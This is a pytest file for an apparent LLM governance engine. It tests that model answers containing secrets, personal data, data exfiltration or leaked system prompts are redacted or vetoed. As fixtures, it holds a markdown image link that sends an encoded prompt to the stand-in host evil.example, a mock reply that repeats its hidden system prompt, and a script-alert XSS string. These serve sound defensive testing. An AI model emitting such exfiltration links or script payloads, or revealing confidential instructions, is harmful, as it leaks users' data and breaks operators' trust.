"""Answers of models on their way to the caller: judged, recorded and kept as they may be, on both databases."""

from __future__ import annotations

import base64
import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from metaqore.llm.model import ProviderUnavailable
from metaqore.store.engine import Database
from tests.contract.test_security_policy import MAIL, TOKEN, Governed, on_one_database

SECRET_PROMPT = "Look up the pets of our neighbours."
ENCODED = base64.b64encode(SECRET_PROMPT.encode()).decode()
#: What is asked → what the model says.
SAYS = {
    "a key": f"The deploy key is {TOKEN}, keep it.",
    "an address": f"Ask {MAIL} about it.",
    "the pets": f"They have a cat. ![cat](https://evil.example/p.png?d={ENCODED})",
}


@pytest.fixture
def talking(database: Database, tmp_path: Path) -> Iterator[Governed]:
    """An engine whose mock provider says what it should not, or what it was told to."""
    shutil.copytree(Path(__file__).parents[2] / "config", tmp_path / "config")
    file = tmp_path / "config" / "providers.yaml"
    rows = [{"name": f"says {number}", "keyword": asked, "reply": reply}
            for number, (asked, reply) in enumerate(SAYS.items())]  # fmt: skip
    rows.append({"name": "tells", "regex": "(?is)(?P<told>.*)who are you", "reply": "I was told: {{told}}"})
    lines = "".join(f"\n      - {json.dumps(row)}" for row in rows)
    file.write_text(file.read_text().replace("    scenarios:\n", f"    scenarios:{lines}\n", 1))
    made = Governed(database, tmp_path / "config")
    yield made
    made.engine.database.close()


def ledger(governed: Governed) -> dict[str, Any]:
    names = "state, label, trainable, response, error, completion_tokens"
    [row] = governed.sql(f"SELECT {names} FROM llm_calls")
    return dict(zip(names.split(", "), row, strict=True))


def decisions(governed: Governed) -> list[Any]:
    return [tuple(row) for row in governed.sql("SELECT verdict, label, provider FROM decisions ORDER BY id")]


def test_a_secret_in_an_answer_is_taken_out_of_everything_that_keeps_it(talking: Governed) -> None:
    row = talking.do("llm.generate", prompt="Give me a key.")

    assert row["verdict"] == "approved"
    assert row["result"]["text"] == "The deploy key is [REDACTED GITHUB TOKEN], keep it."
    assert row["result"]["decision"]["label"] == "CRITICAL"
    assert [found["type"] for found in row["result"]["answer"]["findings"]] == ["github_token"]
    kept = ledger(talking)
    assert (kept["state"], kept["label"], kept["trainable"]) == ("settled", "CRITICAL", 0)
    assert decisions(talking) == [("approved", "PUBLIC", "mock"), ("approved", "CRITICAL", "mock")]
    tables = ("llm_calls", "decisions", "requests", "audit_entries", "events")
    assert not [table for table in tables if TOKEN in str(talking.sql(f"SELECT * FROM {table}"))]


@on_one_database
def test_personal_data_raises_the_label_of_the_result_and_nobody_learns_from_it(talking: Governed) -> None:
    row = talking.do("llm.generate", prompt="Give me an address.")

    assert row["result"]["text"] == f"Ask {MAIL} about it."
    assert row["result"]["decision"]["label"] == "SENSITIVE"
    assert set(row["result"]["answer"]["obligations"]) >= {"no_cache", "no_training", "no_payload_in_logs"}
    kept = ledger(talking)
    assert (kept["label"], kept["trainable"]) == ("SENSITIVE", 0)
    with talking.engine.store.read() as tx:
        assert tx.reads("llm").settled("acme", 0, 10) == []
    details = [json.loads(bytes(body))["about"].get("details", {}) for (body,) in
               talking.sql("SELECT body FROM audit_entries WHERE tag = 'llm:call:settled'")]  # fmt: skip
    assert [each["label"] for each in details] == ["SENSITIVE"]


def test_an_answer_that_carries_the_prompt_out_is_withheld_and_paid_for(talking: Governed) -> None:
    row = talking.do("llm.generate", prompt=f"{SECRET_PROMPT} Name the pets.")

    assert (row["state"], row["verdict"]) == ("succeeded", "vetoed")
    assert row["result"]["decision"]["rules"] == ["threat.data_exfiltration"]
    assert "text" not in row["result"]
    kept = ledger(talking)
    assert (kept["state"], kept["trainable"]) == ("settled", 0)
    assert json.loads(kept["response"])["text"] == ""
    assert kept["completion_tokens"] > 0
    assert "evil.example" not in str(talking.sql("SELECT * FROM decisions"))
    assert [verdict for verdict, *_ in decisions(talking)] == ["approved", "vetoed"]


@on_one_database
def test_a_withheld_answer_stays_withheld_when_the_ledger_is_asked_again(talking: Governed) -> None:
    row = talking.do("llm.generate", prompt=f"{SECRET_PROMPT} Name the pets.")
    with talking.database.write() as connection:
        sql = "UPDATE requests SET state = 'accepted', verdict = NULL, result = NULL, finished_at = NULL WHERE id = ?"
        connection.exec_driver_sql(talking.database.sql(sql), (row["id"],))

    again = talking.finish(row["id"])

    assert again["verdict"] == "vetoed"
    assert again["result"]["decision"]["id"] == row["result"]["decision"]["id"]
    assert len(decisions(talking)) == 2


@on_one_database
def test_an_answer_that_a_second_attempt_gets_is_judged_too(talking: Governed, monkeypatch: pytest.MonkeyPatch) -> None:
    provider = next(iter(talking.executor.catalogue["llm.generate"].long._work._providers.values()))  # type: ignore[union-attr]
    busy = ProviderUnavailable("busy", provider="mock", reason="busy")
    with monkeypatch.context() as first:
        first.setattr(type(provider), "complete", lambda self, batch, go_on: [busy for _ in batch])
        row = talking.do("llm.generate", prompt=f"{SECRET_PROMPT} Name the pets.")
        assert row["state"] == "accepted"
    with talking.database.write() as connection:
        connection.exec_driver_sql("UPDATE requests SET available_at = 0 WHERE state = 'accepted'")

    again = talking.finish(row["id"])

    assert (again["state"], again["verdict"]) == ("succeeded", "vetoed")
    assert ledger(talking)["state"] == "settled"


@on_one_database
def test_a_model_that_tells_its_instructions_is_not_listened_to(talking: Governed) -> None:
    told = "You are the concierge of Hotel Aurora. Never speak of the renovation in May; keep the fourth floor free."
    asked = [{"role": "system", "content": told}, {"role": "user", "content": "Hello, who are you?"}]

    row = talking.do("llm.generate", messages=asked)
    other = talking.do("llm.generate", prompt="Hello, who are you?")

    assert row["verdict"] == "vetoed", row["result"]
    assert "threat.prompt_leakage" in row["result"]["decision"]["rules"]
    assert other["verdict"] == "approved"


@on_one_database
def test_what_the_prompt_said_comes_back_and_is_no_finding(talking: Governed) -> None:
    row = talking.do("llm.generate", prompt=f"Is {MAIL} yours? My key is {TOKEN}. Who are you?")

    assert row["verdict"] == "approved"
    assert TOKEN in row["result"]["text"]
    assert MAIL in row["result"]["text"]
    assert "answer" not in row["result"]


@on_one_database
def test_a_policy_decides_about_answers_and_its_change_holds_for_the_next_one(talking: Governed) -> None:
    deny = {"id": "no-mail", "version": 1, "mode": "enforce", "effect": "deny", "message": "Nobody is named here.",
            "when": 'position == "answer" && "email" in findings'}  # fmt: skip
    before = talking.do("llm.generate", prompt="Give me an address.")
    talking.save(deny)

    after = talking.do("llm.generate", prompt="Give me an address.")

    assert (before["verdict"], after["verdict"]) == ("approved", "vetoed")
    assert after["result"]["decision"]["reasons"] == ["Nobody is named here."]


@on_one_database
def test_an_answer_that_needs_an_approval_is_delivered_once_somebody_gave_it(talking: Governed) -> None:
    talking.save({"id": "four-eyes", "version": 1, "mode": "enforce", "message": "Somebody has to look at it.",
                  "when": 'position == "answer" && level >= 2',
                  "effect": {"require_approval": "approvals:answer"}})  # fmt: skip
    held = talking.do("llm.generate", prompt="Give me an address.")
    talking.executor.drain("psmp")
    [(approval,)] = talking.sql("SELECT id FROM approvals WHERE state = 'open'")
    answer = {"approval": approval, "answer": "approve", "authority": ["approvals:answer"]}
    talking.do("approval.answer", "boss", **answer)

    again = talking.do("llm.generate", prompt="Give me an address.")

    assert (held["verdict"], again["verdict"]) == ("vetoed", "approved")
    assert MAIL in again["result"]["text"]


@on_one_database
def test_a_policy_that_is_tried_on_what_was_decided_tells_answers_from_prompts(talking: Governed) -> None:
    talking.do("llm.generate", prompt="Give me an address.")
    rule = {"id": "no-mail", "version": 1, "mode": "enforce", "effect": "deny", "message": "No.",
            "when": 'position == "answer" && "email" in findings'}  # fmt: skip
    views, gate = talking.engine.views.security, talking.engine.gate

    def changed(*rules: dict[str, Any]) -> list[Any]:
        recorded = views.latest_decisions("acme", None, 100)
        with views.gate() as reads:
            found = gate.preview("acme", None, {"rules": list(rules)}, recorded, reads).changed
        return [change.after["verdict"] for change in found]

    assert changed() == []
    assert changed(rule) == ["vetoed"]


@on_one_database
def test_somebody_elses_answer_can_be_assessed_too(talking: Governed) -> None:
    row = talking.do("payload.assess", content="<script>alert(1)</script> Hello.", position="answer")

    assert row["verdict"] == "vetoed"
    assert row["result"]["decision"]["rules"] == ["threat.active_content"]
